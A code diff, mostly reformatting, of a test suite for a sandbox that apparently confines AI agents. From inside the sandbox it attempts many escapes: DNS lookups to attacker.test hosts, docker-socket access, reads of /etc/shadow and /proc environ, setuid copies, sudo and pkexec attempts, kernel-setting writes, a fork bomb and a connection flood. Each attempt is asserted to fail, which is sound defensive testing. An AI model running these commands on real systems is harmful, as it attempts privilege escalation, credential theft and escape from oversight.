@@ -1,16 +1,31 @@
 // Attempts from inside a bottle to leave it: to the network, the host, another bottle, the kernel and the control plane. Two
 // bottles run side by side; the host listens on everything that an attacker would look for.
 import { createSocket, type Socket as UdpSocket } from "node:dgram";
-import { existsSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync, writeFileSync } from "node:fs";
+import {
+  existsSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  readlinkSync,
+  rmSync,
+  statSync,
+  writeFileSync,
+} from "node:fs";
 import { type AddressInfo, createServer, type Server } from "node:net";
 import { networkInterfaces, tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { type AttackWorld, modesHere, type Mode, openAttackWorld } from "../support/attack-world.ts";
+import {
+  type AttackWorld,
+  type Mode,
+  modesHere,
+  openAttackWorld,
+} from "../support/attack-world.ts";
 import { missing, requires } from "../support/requires.ts";
 import { listen } from "../support/sink.ts";
 
-const BOTTLE = "agent_provider: { template: command, settings: { argv: [/bin/true] } }\nlimits: { memory: 1GiB, processes: 256 }";
+const BOTTLE =
+  "agent_provider: { template: command, settings: { argv: [/bin/true] } }\nlimits: { memory: 1GiB, processes: 256 }";
 const ABSTRACT = `bot-bottle-attack-${process.pid}`;
 const CANARY = "host-file-canary-7c41";
 const NO_ROUTE = /^(ENETUNREACH|EHOSTUNREACH|EADDRNOTAVAIL|EINVAL|ECONNREFUSED)$/;
@@ -53,12 +68,15 @@ class Host implements AsyncDisposable {
     }
     this.#servers.push(server);
     const address = server.address();
-    if (typeof address === "object" && address !== null) this.ports.set(name, (address as AddressInfo).port);
+    if (typeof address === "object" && address !== null)
+      this.ports.set(name, (address as AddressInfo).port);
   }
 
   /** Addresses of this machine beside loopback. */
   get addresses(): readonly string[] {
-    return Object.values(networkInterfaces()).flatMap((list) => (list ?? []).filter((it) => !it.internal).map((it) => it.address));
+    return Object.values(networkInterfaces()).flatMap((list) =>
+      (list ?? []).filter((it) => !it.internal).map((it) => it.address),
+    );
   }
 
   async [Symbol.asyncDispose](): Promise<void> {
@@ -140,7 +158,12 @@ const CALLS: readonly (readonly [name: string, x64: number, arm64: number, ...ar
 ];
 
 /** Kinds of sockets: family, type, protocol. */
-const SOCKETS: readonly (readonly [name: string, family: number, type: number, protocol: number])[] = [
+const SOCKETS: readonly (readonly [
+  name: string,
+  family: number,
+  type: number,
+  protocol: number,
+])[] = [
   ["raw IPv4, ICMP", 2, 3, 1],
   ["raw IPv4, anything", 2, 3, 255],
   ["raw IPv6, ICMP", 10, 3, 58],
@@ -183,17 +206,23 @@ describe.each(modesHere())("a guest of %s", requires("bwrap", "userns"), (mode: 
     await world?.[Symbol.asyncDispose]();
     await host?.[Symbol.asyncDispose]();
   });
-  const outcome = async (op: string, options: object): Promise<string> => (await world.ask(op, options)).outcome ?? "";
+  const outcome = async (op: string, options: object): Promise<string> =>
+    (await world.ask(op, options)).outcome ?? "";
   const nobodyCame = (): void => expect(host.visits).toEqual([]);
 
   it("has a working door and nothing else to speak to", async () => {
     expect(await outcome("connect", { host: "127.0.0.1", port: 9099 })).toBe("connected");
     expect(await outcome("connect", { host: "egress", port: 9099 })).toBe("connected");
-    expect(await outcome("connect", { path: "/run/bot-bottle/doors/proxy.sock" })).toBe("connected");
+    expect(await outcome("connect", { path: "/run/bot-bottle/doors/proxy.sock" })).toBe(
+      "connected",
+    );
     expect(await outcome("list", { path: "/run/bot-bottle/doors" })).toBe("proxy.sock");
     expect(await outcome("connect", { path: "/run/bot-bottle/doors/init.sock" })).toBe("ENOENT");
     for (const port of [1, 22, 53, 80, 443, 2375, 3128, 8888, 9100, 9418, 9420]) {
-      expect([port, await outcome("connect", { host: "127.0.0.1", port })]).toEqual([port, "ECONNREFUSED"]);
+      expect([port, await outcome("connect", { host: "127.0.0.1", port })]).toEqual([
+        port,
+        "ECONNREFUSED",
+      ]);
     }
   });
 
@@ -215,33 +244,64 @@ describe.each(modesHere())("a guest of %s", requires("bwrap", "userns"), (mode: 
       ["a translated one", "64:ff9b::101:101"],
     ])("leads to nowhere: %s, %s", async (_name, address) => {
       const began = performance.now();
-      for (const port of [443, 53, 22]) expect(await outcome("connect", { host: address, port })).toMatch(NO_ROUTE);
-      expect(await outcome("udp", { host: address, port: 53, data: "x" })).toMatch(/^(ENETUNREACH|EHOSTUNREACH|EADDRNOTAVAIL|EACCES|EINVAL)$/);
+      for (const port of [443, 53, 22])
+        expect(await outcome("connect", { host: address, port })).toMatch(NO_ROUTE);
+      expect(await outcome("udp", { host: address, port: 53, data: "x" })).toMatch(
+        /^(ENETUNREACH|EHOSTUNREACH|EADDRNOTAVAIL|EACCES|EINVAL)$/,
+      );
       expect(performance.now() - began).toBeLessThan(1500);
     });
 
     it("asks no name of anybody", async () => {
-      for (const name of ["example.com", "secret-in-a-label.attacker.test", "localhost.attacker.test"]) {
+      for (const name of [
+        "example.com",
+        "secret-in-a-label.attacker.test",
+        "localhost.attacker.test",
+      ]) {
         expect(await outcome("look", { name })).toMatch(/^(ENOTFOUND|EAI_AGAIN)$/);
       }
-      for (const server of ["8.8.8.8", "1.1.1.1:53", "127.0.0.1", "127.0.0.53", "[2001:4860:4860::8888]"]) {
+      for (const server of [
+        "8.8.8.8",
+        "1.1.1.1:53",
+        "127.0.0.1",
+        "127.0.0.53",
+        "[2001:4860:4860::8888]",
+      ]) {
         for (const type of ["A", "TXT"]) {
-          expect(await outcome("look", { name: "data.attacker.test", server, type })).toMatch(/^(ECONNREFUSED|ETIMEOUT|ESERVFAIL|EREFUSED)$/);
+          expect(await outcome("look", { name: "data.attacker.test", server, type })).toMatch(
+            /^(ECONNREFUSED|ETIMEOUT|ESERVFAIL|EREFUSED)$/,
+          );
         }
       }
-      const { stdout = "" } = await world.sh("cat /etc/resolv.conf; getent hosts example.com; getent ahosts attacker.test");
+      const { stdout = "" } = await world.sh(
+        "cat /etc/resolv.conf; getent hosts example.com; getent ahosts attacker.test",
+      );
       expect(stdout).not.toMatch(/nameserver (?!127\.)|\d+\.\d+\.\d+\.\d+ .*STREAM/);
     });
 
     it("reaches no listener of the host, whatever it is bound to", async () => {
       const own = host.addresses.slice(0, 6);
-      for (const port of [...host.ports].filter(([name]) => name !== "udp").map(([, number]) => number)) {
+      for (const port of [...host.ports]
+        .filter(([name]) => name !== "udp")
+        .map(([, number]) => number)) {
         for (const address of ["127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::", ...own]) {
-          expect([address, port, await outcome("connect", { host: address, port })]).toEqual([address, port, expect.stringMatching(NO_ROUTE)]);
+          expect([address, port, await outcome("connect", { host: address, port })]).toEqual([
+            address,
+            port,
+            expect.stringMatching(NO_ROUTE),
+          ]);
         }
       }
-      for (const address of ["127.0.0.1", "127.255.255.255", ...own.filter((it) => !it.includes(":"))]) {
-        await outcome("udp", { host: address, port: host.ports.get("udp"), data: "from the guest" });
+      for (const address of [
+        "127.0.0.1",
+        "127.255.255.255",
+        ...own.filter((it) => !it.includes(":")),
+      ]) {
+        await outcome("udp", {
+          host: address,
+          port: host.ports.get("udp"),
+          data: "from the guest",
+        });
       }
       nobodyCame();
     });
@@ -249,7 +309,16 @@ describe.each(modesHere())("a guest of %s", requires("bwrap", "userns"), (mode: 
     it("reaches no unix socket of the host, abstract or in a file", async () => {
       expect(await outcome("connect", { path: `\0${ABSTRACT}` })).toBe("ECONNREFUSED");
       expect(await outcome("connect", { path: join(host.directory, "host.sock") })).toBe("ENOENT");
-      for (const path of ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/systemd/private", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", "/run/user/0/bus", "/run/user/1000/bus"]) {
+      for (const path of [
+        "/var/run/docker.sock",
+        "/run/docker.sock",
+        "/run/containerd/containerd.sock",
+        "/run/systemd/private",
+        "/run/dbus/system_bus_socket",
+        "/tmp/.X11-unix/X0",
+        "/run/user/0/bus",
+        "/run/user/1000/bus",
+      ]) {
         expect([path, await outcome("connect", { path })]).toEqual([path, "ENOENT"]);
       }
       nobodyCame();
@@ -260,27 +329,60 @@ describe.each(modesHere())("a guest of %s", requires("bwrap", "userns"), (mode: 
         "for c in 'ip link add d0 type dummy' 'ip addr add 10.9.8.7/24 dev lo' 'ip route add default dev lo' 'ip link set lo down' 'iptables -L' 'nft list ruleset' 'tc qdisc add dev lo root netem'; do $c 2>/dev/null && echo \"DONE $c\"; done; cat /proc/net/route /proc/net/ipv6_route /proc/net/if_inet6",
       );
       expect(stdout).not.toMatch(/DONE (?!iptables|nft)/);
-      expect(stdout.split("\n").filter((line) => /\b(eth|en|wl|docker|br|tun|tap)\S*$/.test(line))).toEqual([]);
+      expect(
+        stdout.split("\n").filter((line) => /\b(eth|en|wl|docker|br|tun|tap)\S*$/.test(line)),
+      ).toEqual([]);
       expect(await outcome("connect", { host: "127.0.0.1", port: 9099 })).toBe("connected");
     });
 
     it.each(SOCKETS)("opens no socket: %s", requires("perl"), async (_name, ...numbers) => {
-      const { stdout } = await world.run(["perl", "-e", `socket(my $s, ${numbers.join(",")}) and print "open"`]);
+      const { stdout } = await world.run([
+        "perl",
+        "-e",
+        `socket(my $s, ${numbers.join(",")}) and print "open"`,
+      ]);
       expect(stdout).toBe("");
     });
 
     it("has no tunnel device, no ping, no packet capture", async () => {
-      for (const path of ["/dev/net/tun", "/dev/kvm", "/dev/vhost-net", "/dev/vhost-vsock", "/dev/vsock", "/dev/fuse", "/dev/mem", "/dev/kmsg", "/dev/uinput", "/dev/sda", "/dev/vda", "/dev/loop0", "/dev/loop-control", "/dev/mapper/control", "/dev/rtc0", "/dev/bpf"]) {
+      for (const path of [
+        "/dev/net/tun",
+        "/dev/kvm",
+        "/dev/vhost-net",
+        "/dev/vhost-vsock",
+        "/dev/vsock",
+        "/dev/fuse",
+        "/dev/mem",
+        "/dev/kmsg",
+        "/dev/uinput",
+        "/dev/sda",
+        "/dev/vda",
+        "/dev/loop0",
+        "/dev/loop-control",
+        "/dev/mapper/control",
+        "/dev/rtc0",
+        "/dev/bpf",
+      ]) {
         expect([path, await outcome("read", { path })]).toEqual([path, "ENOENT"]);
       }
-      expect((await world.sh("ping -c 1 -W 1 127.0.0.1 || ping -c 1 -W 1 1.1.1.1")).code).not.toBe(0);
-      expect((await world.sh("mknod /tmp/sda b 8 0 || mknod /tmp/mem c 1 1 || mknod /home/node/kmsg c 1 11")).code).not.toBe(0);
+      expect((await world.sh("ping -c 1 -W 1 127.0.0.1 || ping -c 1 -W 1 1.1.1.1")).code).not.toBe(
+        0,
+      );
+      expect(
+        (
+          await world.sh(
+            "mknod /tmp/sda b 8 0 || mknod /tmp/mem c 1 1 || mknod /home/node/kmsg c 1 11",
+          )
+        ).code,
+      ).not.toBe(0);
     });
   });
 
   describe("another bottle", () => {
     it("is not reached through its port, its sockets or its shared memory", async () => {
-      expect((await world.ask("connect", { host: "127.0.0.1", port: 18_080 }, 1)).outcome).toBe("connected");
+      expect((await world.ask("connect", { host: "127.0.0.1", port: 18_080 }, 1)).outcome).toBe(
+        "connected",
+      );
       expect((await world.ask("connect", { path: "/tmp/two.sock" }, 1)).outcome).toBe("connected");
       expect(await outcome("connect", { host: "127.0.0.1", port: 18_080 })).toBe("ECONNREFUSED");
       expect(await outcome("connect", { path: `\0${ABSTRACT}-two` })).toBe("ECONNREFUSED");
@@ -294,8 +396,11 @@ describe.each(modesHere())("a guest of %s", requires("bwrap", "userns"), (mode: 
       for (const path of [join(run, "doors/proxy.sock"), join(run, "control.sock")]) {
         expect(await outcome("connect", { path })).toBe("ENOENT");
       }
-      for (const path of [run, state, workspace, audit, world.home, world.root]) expect(await outcome("read", { path })).toBe("ENOENT");
-      const { stdout = "" } = await world.sh("grep -rl 'work of two' /home /run /tmp /proc/*/cwd/ 2>/dev/null");
+      for (const path of [run, state, workspace, audit, world.home, world.root])
+        expect(await outcome("read", { path })).toBe("ENOENT");
+      const { stdout = "" } = await world.sh(
+        "grep -rl 'work of two' /home /run /tmp /proc/*/cwd/ 2>/dev/null",
+      );
       expect(stdout).toBe("");
     });
 
@@ -303,14 +408,22 @@ describe.each(modesHere())("a guest of %s", requires("bwrap", "userns"), (mode: 
       const { stdout = "" } = await world.sh("ls /proc | grep -c '^[0-9]'; cat /proc/*/comm");
       expect(Number(stdout.split("\n")[0])).toBeLessThan(12);
       // Bottles of root have uids of their own, so even the kernel's own check would stop them.
-      const probe = readdirSync("/proc").filter((name) => /^\d+$/.test(name) && Number(name) > 4000).slice(0, 40);
-      const { stdout: signalled = "" } = await world.sh(`for p in ${probe.join(" ")}; do kill -0 $p 2>/dev/null && echo $p; done; true`);
+      const probe = readdirSync("/proc")
+        .filter((name) => /^\d+$/.test(name) && Number(name) > 4000)
+        .slice(0, 40);
+      const { stdout: signalled = "" } = await world.sh(
+        `for p in ${probe.join(" ")}; do kill -0 $p 2>/dev/null && echo $p; done; true`,
+      );
       const own = ((await world.sh("ls /proc | grep '^[0-9]'")).stdout ?? "").split("\n");
       expect(signalled.split("\n").filter((pid) => pid !== "" && !own.includes(pid))).toEqual([]);
     });
 
     it("has memory queues of its own", requires("perl"), async () => {
-      const get = (flags: string): string[] => ["perl", "-e", `my $id = shmget(0x5eed, 4096, ${flags}); print defined $id ? "segment" : "none"`];
+      const get = (flags: string): string[] => [
+        "perl",
+        "-e",
+        `my $id = shmget(0x5eed, 4096, ${flags}); print defined $id ? "segment" : "none"`,
+      ];
       expect((await world.run(get("0666 | 01000"), {}, 1)).stdout).toBe("segment");
       expect((await world.run(get("0666"))).stdout).toBe("none");
     });
@@ -321,7 +434,11 @@ describe.each(modesHere())("a guest of %s", requires("bwrap", "userns"), (mode: 
       const number = { x64, arm64 }[process.arch as "x64" | "arm64"];
       if (number === undefined) return;
       const all = [...args, 0, 0, 0, 0, 0].slice(0, 5).join(",");
-      const { stdout, code } = await world.run(["perl", "-e", `my $r = syscall(${number},${all}); print $r == -1 ? "refused" : "done $r"; exit 0`]);
+      const { stdout, code } = await world.run([
+        "perl",
+        "-e",
+        `my $r = syscall(${number},${all}); print $r == -1 ? "refused" : "done $r"; exit 0`,
+      ]);
       expect([stdout, code]).toEqual(["refused", 0]);
     });
 
@@ -344,7 +461,9 @@ int main(void) {
   }
   return 0;
 }`;
-      const { stdout, stderr } = await world.sh(`cd /tmp && cat > a.c <<'END'\n${source}\nEND\ncc -o a a.c && ./a`);
+      const { stdout, stderr } = await world.sh(
+        `cd /tmp && cat > a.c <<'END'\n${source}\nEND\ncc -o a a.c && ./a`,
+      );
       if (missing("cc") === undefined && stderr?.includes("not found")) return;
       expect(stdout).toBe("terminal\n");
     });
@@ -354,7 +473,9 @@ int main(void) {
       expect(stdout).toMatch(/^NoNewPrivs:\t1$/m);
       expect(stdout).toMatch(/^Seccomp:\t2$/m);
       expect(stdout.match(/^Cap\w+:\t0{16}$/gm)).toHaveLength(5);
-      const gained = await world.sh("su -c id root </dev/null; sudo -n id; pkexec id; newgrp root -c id; mount; true");
+      const gained = await world.sh(
+        "su -c id root </dev/null; sudo -n id; pkexec id; newgrp root -c id; mount; true",
+      );
       expect(gained.stdout).not.toMatch(/uid=0/);
     });
 
@@ -388,16 +509,28 @@ int main(void) {
       const before = readFileSync("/proc/sys/kernel/core_pattern", "utf8");
       for (const path of settings) {
         const result = await outcome("write", { path, text: "1" });
-        expect([path, result]).toEqual([path, expect.stringMatching(/^(EACCES|EPERM|EROFS|ENOENT|EISDIR|EINVAL|EIO)$/)]);
+        expect([path, result]).toEqual([
+          path,
+          expect.stringMatching(/^(EACCES|EPERM|EROFS|ENOENT|EISDIR|EINVAL|EIO)$/),
+        ]);
       }
       expect(readFileSync("/proc/sys/kernel/core_pattern", "utf8")).toBe(before);
-      const { stdout = "" } = await world.sh("find /proc/sys /sys -writable -type f 2>/dev/null | head; ls /sys 2>/dev/null; find / -xdev -name release_agent 2>/dev/null");
+      const { stdout = "" } = await world.sh(
+        "find /proc/sys /sys -writable -type f 2>/dev/null | head; ls /sys 2>/dev/null; find / -xdev -name release_agent 2>/dev/null",
+      );
       expect(stdout).toBe("");
     });
 
     it("tells nothing of the host by /proc", async () => {
-      const { stdout = "" } = await world.sh("cat /proc/keys /proc/key-users /proc/kallsyms /proc/1/environ /proc/1/cmdline /proc/2/environ /proc/mounts /proc/self/mountinfo 2>/dev/null | tr '\\0' '\\n'");
-      for (const trace of ["launcher-environment-canary", "LAUNCHER_VARIABLE", world.home, "attack-owner"]) {
+      const { stdout = "" } = await world.sh(
+        "cat /proc/keys /proc/key-users /proc/kallsyms /proc/1/environ /proc/1/cmdline /proc/2/environ /proc/mounts /proc/self/mountinfo 2>/dev/null | tr '\\0' '\\n'",
+      );
+      for (const trace of [
+        "launcher-environment-canary",
+        "LAUNCHER_VARIABLE",
+        world.home,
+        "attack-owner",
+      ]) {
         if (trace === world.home) continue;
         expect(stdout).not.toContain(trace);
       }
@@ -408,28 +541,71 @@ int main(void) {
   describe("files", () => {
     it("of the host are out of reach", async () => {
       const secret = join(host.directory, "secret");
-      const ways = [secret, `/proc/1/root${secret}`, `/proc/2/root${secret}`, `/proc/self/root${secret}`, `/proc/1/cwd${secret}`, `/driver/../..${secret}`];
+      const ways = [
+        secret,
+        `/proc/1/root${secret}`,
+        `/proc/2/root${secret}`,
+        `/proc/self/root${secret}`,
+        `/proc/1/cwd${secret}`,
+        `/driver/../..${secret}`,
+      ];
       for (const path of ways) expect(await outcome("read", { path })).not.toContain(CANARY);
-      await world.sh(`ln -s ${secret} /home/node/workspace/link; ln -s /proc/1/root /home/node/workspace/root`);
+      await world.sh(
+        `ln -s ${secret} /home/node/workspace/link; ln -s /proc/1/root /home/node/workspace/root`,
+      );
       expect(await outcome("read", { path: "/home/node/workspace/link" })).toBe("ENOENT");
-      for (const path of ["/root", "/boot", "/mnt", "/media", "/srv", "/sys", "/var/lib", "/var/log", "/etc/shadow", "/etc/ssh"]) {
+      for (const path of [
+        "/root",
+        "/boot",
+        "/mnt",
+        "/media",
+        "/srv",
+        "/sys",
+        "/var/lib",
+        "/var/log",
+        "/etc/shadow",
+        "/etc/ssh",
+      ]) {
         expect([path, await outcome("list", { path })]).toEqual([path, "ENOENT"]);
       }
     });
 
     it("of the bottle are what they should be: read-only outside of home and memory", async () => {
-      const forbidden = ["/x", "/usr/x", "/usr/bin/x", "/etc/passwd", "/etc/hosts", "/etc/ssl/certs/ca-certificates.crt", "/opt/x", "/opt/bot-bottle/guest-init.js", "/opt/bot-bottle/bin/node", "/driver/attack-driver.mjs", "/run/bot-bottle/doors/x", "/dev/x", "/proc/1/attr/current"];
+      const forbidden = [
+        "/x",
+        "/usr/x",
+        "/usr/bin/x",
+        "/etc/passwd",
+        "/etc/hosts",
+        "/etc/ssl/certs/ca-certificates.crt",
+        "/opt/x",
+        "/opt/bot-bottle/guest-init.js",
+        "/opt/bot-bottle/bin/node",
+        "/driver/attack-driver.mjs",
+        "/run/bot-bottle/doors/x",
+        "/dev/x",
+        "/proc/1/attr/current",
+      ];
       for (const path of forbidden) {
-        expect([path, await outcome("write", { path, text: "x" })]).toEqual([path, expect.stringMatching(/^(EROFS|EACCES|EPERM|EINVAL|ETXTBSY|ENOENT)$/)]);
+        expect([path, await outcome("write", { path, text: "x" })]).toEqual([
+          path,
+          expect.stringMatching(/^(EROFS|EACCES|EPERM|EINVAL|ETXTBSY|ENOENT)$/),
+        ]);
       }
-      const changed = await world.sh("rm -f /run/bot-bottle/doors/proxy.sock; mv /run/bot-bottle/doors /tmp/d; mount -o remount,rw /; mount -o remount,rw /driver; umount /proc/sys; true");
+      const changed = await world.sh(
+        "rm -f /run/bot-bottle/doors/proxy.sock; mv /run/bot-bottle/doors /tmp/d; mount -o remount,rw /; mount -o remount,rw /driver; umount /proc/sys; true",
+      );
       expect(changed.stdout).toBe("");
       expect(await outcome("list", { path: "/run/bot-bottle/doors" })).toBe("proxy.sock");
-      expect(await outcome("write", { path: "/home/node/workspace/mine", text: "x" })).toBe("written");
+      expect(await outcome("write", { path: "/home/node/workspace/mine", text: "x" })).toBe(
+        "written",
+      );
     });
 
     it("made in the bottle are no danger outside: no set-uid, no device, no owner", async () => {
-      await world.sh("cp /bin/sh /home/node/workspace/suid; chmod 6777 /home/node/workspace/suid; mkfifo /home/node/workspace/fifo");
+      await world.sh(
+        "cp /bin/sh /home/node/workspace/suid; chmod 6777 /home/node/workspace/suid; mkfifo /home/node/workspace/fifo",
+      );
       const { workspace = "" } = world.bottles[0] ?? {};
       expect(existsSync(join(workspace, "suid"))).toBe(true);
       const { uid, mode: bits } = statSync(join(workspace, "suid"));
@@ -444,50 +620,78 @@ int main(void) {
   describe("the control plane", () => {
     it("is not there: no socket, no credential, no variable of the operator", async () => {
       const { env = {} } = await world.ask("env");
-      const known = /^(LANG|HOME|USER|LOGNAME|SHELL|PATH|BOT_BOTTLE_SLUG|\w+_PROXY|\w+_proxy|NODE_USE_ENV_PROXY|\w*CA\w*|SSL_CERT_FILE|DENO_CERT|PIP_CERT|GIT_SSL_CAINFO|\w+_SECRET|TERM|PWD|SHLVL|_)$/;
+      const known =
+        /^(LANG|HOME|USER|LOGNAME|SHELL|PATH|BOT_BOTTLE_SLUG|\w+_PROXY|\w+_proxy|NODE_USE_ENV_PROXY|\w*CA\w*|SSL_CERT_FILE|DENO_CERT|PIP_CERT|GIT_SSL_CAINFO|\w+_SECRET|TERM|PWD|SHLVL|_)$/;
       expect(Object.keys(env).filter((name) => !known.test(name))).toEqual([]);
       const { run = "" } = world.bottles[0] ?? {};
       expect(await outcome("connect", { path: join(run, "control.sock") })).toBe("ENOENT");
-      const { stdout = "" } = await world.sh("find / -xdev -type s 2>/dev/null; find /run /tmp /var -type s 2>/dev/null");
-      expect([...new Set(stdout.trim().split("\n"))].filter((path) => path !== "")).toEqual(["/run/bot-bottle/doors/proxy.sock"]);
+      const { stdout = "" } = await world.sh(
+        "find / -xdev -type s 2>/dev/null; find /run /tmp /var -type s 2>/dev/null",
+      );
+      expect([...new Set(stdout.trim().split("\n"))].filter((path) => path !== "")).toEqual([
+        "/run/bot-bottle/doors/proxy.sock",
+      ]);
     });
 
     it("cannot be spoken to over the guest-init process", async () => {
-      const { stdout = "" } = await world.sh("ls -l /proc/2/fd 2>/dev/null | grep -c socket; for f in /proc/2/fd/*; do echo x > $f; done 2>/dev/null; kill -0 2 && echo visible; cat /proc/2/mem 2>&1 | head -c 20");
+      const { stdout = "" } = await world.sh(
+        "ls -l /proc/2/fd 2>/dev/null | grep -c socket; for f in /proc/2/fd/*; do echo x > $f; done 2>/dev/null; kill -0 2 && echo visible; cat /proc/2/mem 2>&1 | head -c 20",
+      );
       expect(stdout).toContain("visible");
       // The link of guest-init is still whole.
       expect((await world.sh("echo alive")).stdout).toBe("alive\n");
-      const memory = await world.run(["/opt/bot-bottle/bin/node", "-e", "const fs=require('fs');const d=fs.openSync('/proc/2/mem','r');console.log('opened')"]);
+      const memory = await world.run([
+        "/opt/bot-bottle/bin/node",
+        "-e",
+        "const fs=require('fs');const d=fs.openSync('/proc/2/mem','r');console.log('opened')",
+      ]);
       expect(memory.stdout).not.toContain("opened");
     });
   });
 
   describe("abuse", () => {
     it("of processes ends at the limit, and the door stays open", async () => {
-      const bomb = "const {spawn}=require('child_process');let n=0,f=0;for(let i=0;i<600;i++){const c=spawn('/bin/sleep',['2'],{stdio:'ignore'});c.on('error',()=>f++);if(c.pid)n++}setTimeout(()=>{console.log(n,f);process.exit(0)},1000)";
+      const bomb =
+        "const {spawn}=require('child_process');let n=0,f=0;for(let i=0;i<600;i++){const c=spawn('/bin/sleep',['2'],{stdio:'ignore'});c.on('error',()=>f++);if(c.pid)n++}setTimeout(()=>{console.log(n,f);process.exit(0)},1000)";
       const { stdout = "" } = await world.run(["/opt/bot-bottle/bin/node", "-e", bomb]);
       const [made = 0, failed = 0] = stdout.split(" ").map(Number);
       expect(made).toBeLessThan(256);
       expect(failed).toBeGreaterThan(300);
       expect(await outcome("connect", { host: "127.0.0.1", port: 9099 })).toBe("connected");
-      expect((await world.ask("connect", { host: "127.0.0.1", port: 9099 }, 1)).outcome).toBe("connected");
+      expect((await world.ask("connect", { host: "127.0.0.1", port: 9099 }, 1)).outcome).toBe(
+        "connected",
+      );
     });
 
     it("of file systems in memory ends at their size", async () => {
-      const { stdout = "" } = await world.sh("for d in /tmp /run /dev/shm; do df -k --output=size $d | tail -1; done; df -k --output=size / | tail -1");
-      for (const size of stdout.trim().split("\n").slice(0, 3)) expect(Number(size)).toBeLessThanOrEqual(1_048_576);
+      const { stdout = "" } = await world.sh(
+        "for d in /tmp /run /dev/shm; do df -k --output=size $d | tail -1; done; df -k --output=size / | tail -1",
+      );
+      for (const size of stdout.trim().split("\n").slice(0, 3))
+        expect(Number(size)).toBeLessThanOrEqual(1_048_576);
     });
 
     it("of the proxy by many connections leaves it answering", async () => {
-      const flood = "const net=require('net');const s=[];for(let i=0;i<700;i++){const c=net.connect(9099,'127.0.0.1');c.on('error',()=>0);s.push(c)}setTimeout(()=>{for(const c of s)c.destroy();console.log('flooded');process.exit(0)},1500)";
+      const flood =
+        "const net=require('net');const s=[];for(let i=0;i<700;i++){const c=net.connect(9099,'127.0.0.1');c.on('error',()=>0);s.push(c)}setTimeout(()=>{for(const c of s)c.destroy();console.log('flooded');process.exit(0)},1500)";
       const flooding = world.run(["/opt/bot-bottle/bin/node", "-e", flood]);
       expect((await flooding).stdout).toBe("flooded\n");
-      const { text } = await world.ask("raw", { parts: [Buffer.from("GET http://x.test/ HTTP/1.1\r\nHost: x.test\r\nConnection: close\r\n\r\n").toString("base64")] });
+      const { text } = await world.ask("raw", {
+        parts: [
+          Buffer.from(
+            "GET http://x.test/ HTTP/1.1\r\nHost: x.test\r\nConnection: close\r\n\r\n",
+          ).toString("base64"),
+        ],
+      });
       expect(text).toMatch(/^HTTP\/1\.1 403 /);
     });
 
     it("of guest-init's ears: a program that writes without end is just a program", async () => {
-      const { stdout = "", code } = await world.run(["/bin/sh", "-c", "head -c 3000000 /dev/zero | tr '\\0' x | wc -c"]);
+      const { stdout = "", code } = await world.run([
+        "/bin/sh",
+        "-c",
+        "head -c 3000000 /dev/zero | tr '\\0' x | wc -c",
+      ]);
       expect([stdout.trim(), code]).toEqual(["3000000", 0]);
     });
   });
